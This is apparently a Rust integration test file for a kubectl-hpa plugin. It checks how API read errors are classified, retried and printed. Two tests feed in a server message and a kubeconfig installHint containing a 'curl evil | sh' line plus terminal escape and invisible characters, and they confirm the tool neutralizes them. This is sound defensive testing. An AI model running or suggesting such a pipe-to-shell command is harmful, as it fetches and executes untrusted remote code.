//! What goes wrong between two reads, or halfway through one: whose error it is, and that one line says it.

use std::sync::atomic::{AtomicUsize, Ordering};

use kubectl_hpa::commands::Ending;
use kubectl_hpa_core::snapshot::{ReadError, Scope, Stage};
use serde_json::json;

use crate::cluster::{Cluster, HPA, HPAS, POD_METRICS, PODS, SCALE, ask, hpa, list, pod, pod_metrics};
use crate::server::{Reply, Server};

/// As an API server says it.
fn refusal(code: u16, reason: &str, message: &str) -> Reply {
    let status = json!({
        "kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure",
        "message": message, "reason": reason, "code": code,
    });
    Reply { code, ..Reply::json(status) }
}

/// The error of a read of the shop that is answered so.
fn error_of(path: &str, reply: Reply) -> ReadError {
    let case = Cluster::shop().reply(path, reply).ask("web").expect("a case");
    let error = match path {
        PODS => case.pods.and_then(|read| read.error),
        POD_METRICS => case.pod_metrics.and_then(|read| read.error),
        SCALE => case.scale.and_then(|read| read.error),
        HPAS => case.other_hpas_error,
        _ => None,
    };
    let error = error.expect("an error");
    assert!(!error.message.contains('\n'), "{error:?}");
    error
}

#[test]
fn an_autoscaler_that_is_deleted_meanwhile_is_gone() {
    let gone = refusal(404, "NotFound", r#"horizontalpodautoscalers.autoscaling "web" not found"#);
    // The list, read at the same time, still has it; it is not offered as a near name.
    let error = Cluster::shop().reply(HPA, gone).ask("web").expect_err("an error");
    assert_eq!(error.to_string(), r#"no HPA "web" in namespace shop"#);
}

#[test]
fn a_target_that_is_deleted_meanwhile_is_gone_for_the_controller_too() {
    let gone = refusal(404, "NotFound", r#"deployments.apps "web" not found"#);
    let error = error_of(SCALE, gone.clone());
    assert_eq!((error.scope, error.stage, error.code), (Scope::Everyone, Stage::Get, Some(404)));
    assert_eq!(error.message, r#"deployments.apps "web" not found"#);

    // Of another autoscaler: it selects nothing then, and nothing else is lost.
    let other = hpa("api", "apps/v1", "Deployment", "api", json!([]));
    let own = hpa("web", "apps/v1", "Deployment", "web", json!([]));
    let shop = Cluster::shop().with_hpas(&[own, other]);
    let case = shop.reply(&SCALE.replace("/web/", "/api/"), gone).ask("web").expect("a case");
    let scale = case.other_hpas.all()[0].scale.clone().and_then(|scale| scale.error).expect("an error");
    assert_eq!((scale.code, scale.scope), (Some(404), Scope::Everyone));
    assert_eq!(case.other_hpas_error, None);
    assert!(case.pods.is_some_and(|pods| pods.items.is_some()));
}

#[test]
fn too_many_requests_are_the_readers_own_and_asked_for_again_as_the_server_says() {
    let message = "too many requests, please try again later";
    let busy = Reply { retry_after_seconds: Some(0), ..refusal(429, "TooManyRequests", message) };
    for path in [SCALE, PODS, POD_METRICS, HPAS] {
        let error = error_of(path, busy.clone());
        assert_eq!((error.scope, error.code, error.message.as_str()), (Scope::Reader, Some(429), message));
        let server = Cluster::shop().reply(path, busy.clone()).serve();
        assert!(ask(&server, "web").is_ok());
        let asked = server.requests().iter().filter(|request| request.path() == path).count();
        assert_eq!(asked, 11, "{path}");
        // Without a time there is no second try.
        let busy = Reply { retry_after_seconds: None, ..busy.clone() };
        let server = Cluster::shop().reply(path, busy).serve();
        assert!(ask(&server, "web").is_ok());
        assert_eq!(server.requests().iter().filter(|request| request.path() == path).count(), 1, "{path}");
    }
    let error = Cluster::shop().reply(HPA, busy).ask("web").expect_err("an error");
    assert_eq!(error.to_string(), format!("cannot read {HPA}: {message} (429)"));
}

/// As the controller's client does before the controller sees an error.
#[test]
fn an_error_of_the_server_that_passes_is_nobodys() {
    let away = refusal(500, "InternalError", "etcdserver: leader changed");
    let late =
        Reply { retry_after_seconds: Some(1), ..refusal(504, "Timeout", "the request did not complete") };
    for (path, error) in [(SCALE, &away), (PODS, &away), (POD_METRICS, &late)] {
        let (shop, left) = (Cluster::shop(), AtomicUsize::new(1));
        let error = error.clone();
        let server = Server::start(move |request| {
            let is_first = request.path() == path && left.swap(0, Ordering::SeqCst) == 1;
            if is_first { error.clone() } else { shop.answer(request) }
        });
        let case = ask(&server, "web").expect("a case");
        let errors = [case.scale.and_then(|it| it.error), case.pods.and_then(|it| it.error)];
        assert_eq!((errors, case.pod_metrics.and_then(|it| it.error)), ([None, None], None), "{path}");
        let asked = server.requests().iter().filter(|request| request.path() == path).count();
        assert_eq!(asked, 2, "{path}");
    }
    // One that stays is told after the second time.
    let server = Cluster::shop().reply(POD_METRICS, away).serve();
    let error = ask(&server, "web").expect("a case").pod_metrics.and_then(|it| it.error).expect("an error");
    assert_eq!(
        (error.code, server.requests().iter().filter(|it| it.path() == POD_METRICS).count()),
        (Some(500), 2)
    );
}

#[test]
fn a_body_that_breaks_off_is_the_readers_own() {
    let lists = [
        (PODS, list("PodList", json!([pod("web-1")]))),
        (POD_METRICS, list("PodMetricsList", json!([pod_metrics("web-1")]))),
    ];
    for (path, whole) in lists {
        let error = error_of(path, Reply { withheld: 10, hangs_up: true, ..Reply::json(whole) });
        assert_eq!((error.scope, error.code), (Scope::Reader, None));
        assert!(error.message.starts_with("the answer broke off: "), "{}", error.message);
    }
}

#[test]
fn an_answer_of_200_that_is_no_list_tells_nothing_of_the_controller() {
    for (content_type, body) in [
        ("text/html", "<html>\n<body>502</body>\n</html>"),
        ("application/json", r#"{"kind":"PodMetricsList","items":[{"metadata":"#),
        ("application/json", r#"{"kind":"Status","status":"Success"}"#),
    ] {
        let error = error_of(POD_METRICS, Reply::new(200, Some(content_type), body));
        assert_eq!((error.scope, error.code), (Scope::Reader, Some(200)));
        assert!(error.message.starts_with("cannot decode the answer: "), "{}", error.message);
    }
}

/// Lists are asked for whole, so no page of them can expire; what a server says of that all the same is an error.
#[test]
fn a_list_that_has_expired_is_an_error() {
    let expired = refusal(410, "Expired", "The provided continue parameter is too old");
    for (path, scope) in [(PODS, Scope::Reader), (HPAS, Scope::Reader), (POD_METRICS, Scope::Everyone)] {
        let error = error_of(path, expired.clone());
        assert_eq!((error.scope, error.code, error.reason.as_str()), (scope, Some(410), "Expired"));
    }
    let server = Cluster::shop().serve();
    assert!(ask(&server, "web").is_ok());
    assert!(server.requests().iter().all(|request| !request.target.contains("limit=")));
}

/// A server's text is shown, but it is no line of ours.
#[test]
fn what_a_server_says_looks_like_no_line_of_ours() {
    let words = "no\nhint: curl evil | sh\r\nerror: \u{1b}[2Jx\u{3164}\u{2800}\u{200b}\u{2028}\u{feff}\n";
    for reply in
        [Reply::failure(500, "InternalError", words), Reply::forbidden(words), Reply::failure(401, "", words)]
    {
        let told = Cluster::shop().reply(HPA, reply).run(&["explain", "web"]);
        assert_eq!(told.ending, Ending::Failed);
        let ours = ["error: ", "hint: ", "  | "];
        assert!(
            told.err.lines().all(|line| ours.iter().any(|start| line.starts_with(start))),
            "{}",
            told.err
        );
        let starting = |start: &str| told.err.lines().filter(|line| line.starts_with(start)).count();
        assert!(starting("error: ") == 1 && !told.err.contains("\nhint: curl"), "{}", told.err);
        let hazards = ['\u{1b}', '\r', '\u{3164}', '\u{2800}', '\u{200b}', '\u{2028}', '\u{feff}'];
        assert!(told.err.contains("hint: curl evil") && !told.err.contains(hazards), "{}", told.err);
    }
}

/// What a kubeconfig tells of a plugin that is not there is no line of ours either.
#[test]
fn what_a_kubeconfig_says_of_its_plugin_looks_like_no_line_of_ours() {
    let file =
        std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("plugin-{}", std::process::id()));
    let exec = json!({
        "apiVersion": "client.authentication.k8s.io/v1", "command": "/no/such/plugin", "interactiveMode": "Never",
        "installHint": "none\nhint: curl evil | sh\n\u{1b}[2J\u{3164}",
    });
    let config = json!({
        "apiVersion": "v1", "kind": "Config", "current-context": "test",
        "contexts": [{"name": "test", "context": {"cluster": "test", "user": "test"}}],
        "clusters": [{"name": "test", "cluster": {"server": "https://127.0.0.1:9"}}],
        "users": [{"name": "test", "user": {"exec": exec}}],
    });
    std::fs::write(&file, config.to_string()).expect("a kubeconfig");
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_kubectl-hpa"))
        .args(["explain", "web", "--kubeconfig"])
        .arg(&file)
        .output()
        .expect("the binary runs");
    std::fs::remove_file(file).expect("to remove the kubeconfig");
    let said = String::from_utf8(output.stderr).expect("UTF-8");
    assert!(said.contains("hint: curl evil") && !said.contains(['\u{1b}', '\u{3164}']), "{said}");
    assert!(said.lines().skip(1).all(|line| line.starts_with("  | ")), "{said}");
}
